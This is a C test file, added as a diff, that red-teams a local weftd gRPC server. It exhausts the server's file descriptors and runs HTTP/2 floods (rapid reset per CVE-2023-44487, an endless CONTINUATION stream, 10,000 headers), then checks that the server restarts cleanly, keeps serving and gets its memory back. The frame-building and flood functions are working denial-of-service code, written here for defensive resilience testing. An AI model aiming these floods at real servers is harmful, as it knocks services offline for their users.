@@ -1,0 +1,266 @@
+/* Connection-level attacks on a real weftd from a raw socket, by a caller without the token
+ * (docs/security.md, "Threat model"): connections until the process runs out of descriptors
+ * (gRPC 1.51 then stops listening for good, so weftd must say so and exit 3 for its supervisor
+ * to restart it), and HTTP/2 floods (rapid reset, CONTINUATION without END_HEADERS, 10,000
+ * headers) after which the server still serves a good client and its memory comes back. */
+#include <arpa/inet.h>
+#include <glib.h>
+#include <netinet/in.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include "process_util.h"
+#include "weft/weft.h"
+#include "weftd_cluster.h"
+
+static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
+
+/* A token file in a new folder; the caller removes both. */
+static char *write_token(char **dir) {
+  *dir = test_tmpdir("weft-redteam2-XXXXXX");
+  char *path = g_build_filename(*dir, "token", NULL);
+  g_assert_true(g_file_set_contents(path, "redteam2-token-0123456789", -1, NULL));
+  return path;
+}
+
+static int port_of(const char *target) {
+  const char *colon = strrchr(target, ':');
+  g_assert_nonnull(colon);
+  return atoi(colon + 1);
+}
+
+/* A TCP connection to loopback:port, or -1 when connect() fails. */
+static int dial(int port) {
+  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  g_assert_cmpint(fd, >=, 0);
+  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
+  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  if (connect(fd, (struct sockaddr *)&a, sizeof a) != 0) {
+    close(fd);
+    return -1;
+  }
+  return fd;
+}
+
+/* Writes all of b; false when the server closed the connection. */
+static bool send_all(int fd, const void *b, size_t n) {
+  const char *p = b;
+  while (n > 0) {
+    ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
+    if (w <= 0) return false;
+    p += w;
+    n -= (size_t)w;
+  }
+  return true;
+}
+
+static void append_frame(GByteArray *out, uint8_t type, uint8_t flags, uint32_t stream,
+                         const void *payload, size_t len) {
+  uint8_t h[9] = {(uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len, type, flags,
+                  (uint8_t)(stream >> 24), (uint8_t)(stream >> 16), (uint8_t)(stream >> 8),
+                  (uint8_t)stream};
+  g_byte_array_append(out, h, 9);
+  if (len) g_byte_array_append(out, payload, (guint)len);
+}
+
+/* An HPACK literal header without indexing, names and values under 127 bytes. */
+static void append_header(GByteArray *out, const char *name, const char *value) {
+  uint8_t zero = 0, nl = (uint8_t)strlen(name), vl = (uint8_t)strlen(value);
+  g_assert_cmpuint(strlen(name), <, 127);
+  g_assert_cmpuint(strlen(value), <, 127);
+  g_byte_array_append(out, &zero, 1);
+  g_byte_array_append(out, &nl, 1);
+  g_byte_array_append(out, (const guint8 *)name, nl);
+  g_byte_array_append(out, &vl, 1);
+  g_byte_array_append(out, (const guint8 *)value, vl);
+}
+
+/* The header block of a ListDevices call (without the token). */
+static GByteArray *call_headers(void) {
+  GByteArray *h = g_byte_array_new();
+  append_header(h, ":method", "POST");
+  append_header(h, ":scheme", "http");
+  append_header(h, ":path", "/weft.Master/ListDevices");
+  append_header(h, ":authority", "localhost");
+  append_header(h, "content-type", "application/grpc");
+  append_header(h, "te", "trailers");
+  return h;
+}
+
+/* A connection that has sent the client preface and an empty SETTINGS frame. */
+static int h2_open(int port) {
+  int fd = dial(port);
+  g_assert_cmpint(fd, >=, 0);
+  GByteArray *b = g_byte_array_new();
+  g_byte_array_append(b, (const guint8 *)preface, sizeof preface - 1);
+  append_frame(b, 4, 0, 0, NULL, 0);
+  g_assert_true(send_all(fd, b->data, b->len));
+  g_byte_array_unref(b);
+  return fd;
+}
+
+/* The good client: ListDevices with the token must answer with the CPU device. */
+static void expect_serves(const char *target, const char *token) {
+  weft_session_options_t *opts = weft_session_options_new();
+  weft_session_options_set_auth_token_file(opts, token);
+  weft_device_info_t *devices = NULL;
+  int n = 0;
+  weft_status_t *st = weft_cluster_list_devices_with_options(target, opts, 60000, &devices, &n);
+  if (st) g_error("ListDevices on %s: %s", target, weft_status_message(st));
+  g_assert_cmpint(n, >=, 1);
+  weft_device_list_free(devices, n);
+  weft_session_options_free(opts);
+}
+
+/* Polls VmRSS until it is within 10% (or 8 MiB) of before, at most 90 s; returns the last. */
+static int64_t rss_settles(GPid pid, int64_t before) {
+  int64_t now = proc_rss_kib(pid);
+  for (int k = 0; k < 180 && now > MAX(before + before / 10, before + 8192); k++) {
+    g_usleep(500000);
+    now = proc_rss_kib(pid);
+  }
+  return now;
+}
+
+/* ---------------------------------------------------------------------------------------------
+ * Out of descriptors */
+
+static void test_out_of_descriptors(void) {
+  if (!weftd_available()) return;
+  char *prlimit = g_find_program_in_path("prlimit");
+  if (!prlimit) {
+    g_test_skip("prlimit (util-linux) is not installed");
+    return;
+  }
+  char *dir = NULL, *token = write_token(&dir);
+  /* Soft and hard limit 64: weftd cannot raise it, and the connections below exhaust it. */
+  char *cmd = g_strdup_printf("%s --nofile=64 %s --local --port 0 --auth-token-file %s", prlimit,
+                              WEFTD_PATH, token);
+  proc_t p = proc_spawn(cmd, 0);
+  char *line = proc_read_until(&p, "Started server with target: ", 60000);
+  g_assert_nonnull(line);
+  int port = port_of(line);
+  int fds[200], n = 0;
+  for (; n < 200; n++) {
+    fds[n] = h2_open(port);
+  }
+  /* gRPC's accept() failed with EMFILE: the listener is gone for good, so weftd says why and
+   * exits 3 (it checks once a second) instead of seeming alive to nobody. */
+  int code = proc_wait_exit(&p, 60000);
+  g_test_message("weftd after %d connections: exit %d; %s", n, code, p.log->str);
+  g_assert_cmpint(code, ==, 3);
+  g_assert_nonnull(strstr(p.log->str, "weftd: error: UNAVAILABLE: Server grpc://localhost:"));
+  g_assert_nonnull(strstr(p.log->str,
+                          " no longer accepts connections: gRPC's accept() failed (Failed "
+                          "accept4: Too many open files) and gRPC stops listening after that; "
+                          "raise the open-file limit (ulimit -n, LimitNOFILE=) and restart it"));
+  for (int k = 0; k < n; k++) close(fds[k]);
+  /* Restarted, as its supervisor would, it serves again. */
+  const char *args[] = {"--local", "--port", "0", "--auth-token-file", token, NULL};
+  weftd_proc_t d = weftd_spawn(args, NULL, true);
+  expect_serves(d.target, token);
+  weftd_stop(&d);
+  g_free(line);
+  g_string_free(p.log, TRUE);
+  g_free(cmd);
+  g_free(prlimit);
+  test_rm_rf(dir);
+  g_free(token);
+  g_free(dir);
+}
+
+/* ---------------------------------------------------------------------------------------------
+ * HTTP/2 floods */
+
+/* HEADERS then RST_STREAM(CANCEL) on streams 1, 3, 5, ... (CVE-2023-44487). */
+static void rapid_reset(int port, int streams) {
+  int fd = h2_open(port);
+  GByteArray *h = call_headers(), *b = g_byte_array_new();
+  uint8_t cancel[4] = {0, 0, 0, 8};
+  for (int k = 0; k < streams; k++) {
+    uint32_t id = 1 + 2 * (uint32_t)k;
+    append_frame(b, 1, 4, id, h->data, h->len);
+    append_frame(b, 3, 0, id, cancel, 4);
+    if (b->len > 65536 || k == streams - 1) {
+      if (!send_all(fd, b->data, b->len)) break;
+      g_byte_array_set_size(b, 0);
+    }
+  }
+  g_byte_array_unref(b);
+  g_byte_array_unref(h);
+  close(fd);
+}
+
+/* HEADERS without END_HEADERS, then 16 KB CONTINUATION frames that never end the block. */
+static void continuation_flood(int port, int frames) {
+  int fd = h2_open(port);
+  GByteArray *h = call_headers(), *c = g_byte_array_new();
+  append_frame(c, 1, 0, 1, h->data, h->len);
+  send_all(fd, c->data, c->len);
+  g_byte_array_set_size(c, 0);
+  char *block = g_malloc0(16000);
+  for (int k = 0; k < frames; k++) {
+    append_frame(c, 9, 0, 1, block, 16000);
+    if (!send_all(fd, c->data, c->len)) break;
+    g_byte_array_set_size(c, 0);
+  }
+  g_free(block);
+  g_byte_array_unref(c);
+  g_byte_array_unref(h);
+  close(fd);
+}
+
+/* One HEADERS frame of 10,000 headers (more than fits gRPC's 8 KiB metadata limit). */
+static void many_headers(int port) {
+  int fd = h2_open(port);
+  GByteArray *h = call_headers();
+  for (int k = 0; k < 10000 && h->len < 16000; k++) {
+    char name[16];
+    g_snprintf(name, sizeof name, "x-h%d", k);
+    append_header(h, name, "v");
+  }
+  GByteArray *b = g_byte_array_new();
+  append_frame(b, 1, 5, 1, h->data, h->len);
+  send_all(fd, b->data, b->len);
+  g_byte_array_unref(b);
+  g_byte_array_unref(h);
+  close(fd);
+}
+
+static void test_h2_floods(void) {
+  if (!weftd_available()) return;
+  char *dir = NULL, *token = write_token(&dir);
+  const char *args[] = {"--local", "--port", "0", "--auth-token-file", token, NULL};
+  weftd_proc_t d = weftd_spawn(args, NULL, true);
+  int port = port_of(d.target);
+  expect_serves(d.target, token);
+  int64_t rss0 = proc_rss_kib(d.pid);
+  struct {
+    const char *name;
+    int arg;
+  } floods[] = {{"rapid reset", 20000}, {"continuation", 2000}, {"10,000 headers", 0}};
+  for (size_t k = 0; k < G_N_ELEMENTS(floods); k++) {
+    if (k == 0) rapid_reset(port, floods[k].arg);
+    if (k == 1) continuation_flood(port, floods[k].arg);
+    if (k == 2) many_headers(port);
+    expect_serves(d.target, token);
+    int64_t rss = rss_settles(d.pid, rss0);
+    g_test_message("%s: VmRSS %" G_GINT64_FORMAT " -> %" G_GINT64_FORMAT " KiB", floods[k].name,
+                   rss0, rss);
+    /* Memory taken by the flood comes back (allowing for this build's own caches). */
+    g_assert_cmpint(rss, <=, MAX(rss0 + rss0 / 10, rss0 + 8192));
+  }
+  weftd_stop(&d);
+  test_rm_rf(dir);
+  g_free(token);
+  g_free(dir);
+}
+
+int main(int argc, char **argv) {
+  g_test_init(&argc, &argv, NULL);
+  g_test_add_func("/redteam2/out_of_descriptors", test_out_of_descriptors);
+  g_test_add_func("/redteam2/h2_floods", test_h2_floods);
+  return g_test_run();
+}
